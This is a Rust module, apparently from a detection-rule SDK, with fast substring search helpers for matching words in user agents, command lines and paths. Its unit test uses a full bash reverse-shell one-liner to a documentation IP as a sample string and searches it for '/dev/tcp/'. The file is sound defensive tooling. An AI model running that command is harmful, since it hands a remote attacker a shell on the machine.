//! Searching in texts.
//!
//! Whether a user agent, a command line or a path holds one of a list of words is what many
//! rules ask. In WebAssembly `str::contains` looks at one byte at a time; these look at 16
//! (`wardline plugin build` allows the instructions for that).

use memchr::memmem;

/// Whether a text holds another. Every text holds the empty one.
///
/// ```
/// assert!(wardline_sdk::text::contains("curl/8.5.0 (kube-hunter)", "kube-hunter"));
/// ```
#[inline]
#[must_use]
pub fn contains(text: &str, search: &str) -> bool {
    find(text, search).is_some()
}

/// Where the first occurrence of a text in another begins, in bytes.
#[inline]
#[must_use]
pub fn find(text: &str, search: &str) -> Option<usize> {
    memmem::find(text.as_bytes(), search.as_bytes())
}

/// A text that is searched for in many others: what can be prepared for it is prepared once.
#[derive(Debug, Clone)]
pub struct Search(memmem::Finder<'static>);

impl Search {
    /// Prepares a search.
    #[must_use]
    pub fn new(search: &str) -> Self {
        Self(memmem::Finder::new(search.as_bytes()).into_owned())
    }

    /// As [`contains`].
    #[inline]
    #[must_use]
    pub fn is_in(&self, text: &str) -> bool {
        self.0.find(text.as_bytes()).is_some()
    }
}

#[cfg(test)]
mod tests {
    use super::{Search, contains, find};

    #[test]
    fn what_is_found_is_what_the_standard_library_finds() {
        let text = "sh -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' # é";
        for search in [
            "/dev/tcp/",
            "",
            "é",
            "sh",
            "bash  ",
            text,
            "4444 0>&1' # éé",
        ] {
            assert_eq!(find(text, search), text.find(search), "{search}");
            assert_eq!(contains(text, search), text.contains(search), "{search}");
            assert_eq!(
                Search::new(search).is_in(text),
                text.contains(search),
                "{search}"
            );
        }
        assert!(!contains("", "a"));
    }
}
